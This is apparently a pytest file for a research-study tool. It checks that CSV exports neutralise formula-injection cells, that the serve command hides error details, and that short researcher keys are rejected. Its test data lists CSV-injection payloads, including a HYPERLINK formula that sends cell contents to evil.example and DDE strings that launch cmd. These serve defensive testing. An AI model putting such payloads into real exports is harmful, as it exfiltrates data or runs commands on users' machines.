"""Exports (issue 25, items 8 and 11): CSV cells that a spreadsheet would run as formulas are neutralised in
every CSV export (the page's function and the `xcore study responses` command), and `xcore study serve`
starts the participant-only app with error details off."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pandas as pd
from study_helpers import answers_for, make_study, new_store

from xcore.study.export import neutralise, responses_csv, safe_csv

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "  =1+1"]


def test_neutralise_against_the_owasp_list():
    for text in ATTACKS:
        assert neutralise(text) == "'" + text
    for text in ("great food", "4", "", "a=b", "e-mail me", "r01 is good"):
        assert neutralise(text) == text
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5  # numbers stay numbers
    frame = pd.DataFrame({"answer": ATTACKS, "n": range(len(ATTACKS))})
    rows = list(csv.reader(io.StringIO(safe_csv(frame))))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in ATTACKS] and [r[1] for r in rows[1:]] == list(
        map(str, range(len(ATTACKS))))


def stored_attacks(tmp_path):
    store = new_store(tmp_path)
    store.publish(make_study(n_items=len(ATTACKS)))
    (tok,) = store.add_participants("s1", 1)
    p = store.participant("s1", tok)
    p.consent()
    for pos, text in enumerate(ATTACKS):
        p.submit(pos, {**answers_for(p.screen(pos)), "comment": text}, 100)
    return store


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_every_csv_export_is_neutralised(tmp_path):
    store = stored_attacks(tmp_path)
    page_csv = responses_csv(store, "s1")
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells(page_csv))
    assert sum(c.startswith("'") for c in cells(page_csv)) == len(ATTACKS)
    store.dispose()
    out = tmp_path / "r.csv"
    done = subprocess.run([sys.executable, "-m", "xcore.cli", "study", "responses", "--db",
                           str(tmp_path / "study.sqlite"), "--study", "s1", "--out", str(out)],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert out.read_bytes().decode("utf-8") == page_csv  # the command writes exactly what the page offers


def test_study_serve_runs_the_participant_only_app(tmp_path):
    done = subprocess.run([sys.executable, "-m", "xcore.cli", "study", "serve", "--dry-run", "--port", "8642",
                           "--db", str(tmp_path / "x.sqlite")], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    command = done.stdout.split()
    assert command[command.index("run") + 1] == str(ROOT / "study_app.py")
    assert "--client.showErrorDetails" in command and command[command.index("--client.showErrorDetails") + 1] == "none"
    assert command[command.index("--server.port") + 1] == "8642"
    bad = subprocess.run([sys.executable, "-m", "xcore.cli", "study", "links", "--study", "nope", "--db",
                          str(tmp_path / "x.sqlite")], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert bad.returncode == 2 and "no study 'nope'" in bad.stderr


def test_a_short_researcher_key_stops_the_dashboard_at_start(monkeypatch, capsys):
    """`xcore app` refuses to start with a researcher key under 16 characters (issue 25, item 9)."""
    from xcore import cli

    started = []
    monkeypatch.setattr(cli.subprocess, "call", lambda *a, **k: started.append(a) or 0)
    monkeypatch.setenv("XCORE_RESEARCHER_KEY", "short")
    assert cli.main(["app", "--headless"]) == 2
    assert "at least 16" in capsys.readouterr().err and not started
    monkeypatch.setenv("XCORE_RESEARCHER_KEY", "a long enough researcher key")
    assert cli.main(["app", "--headless"]) == 0 and len(started) == 1
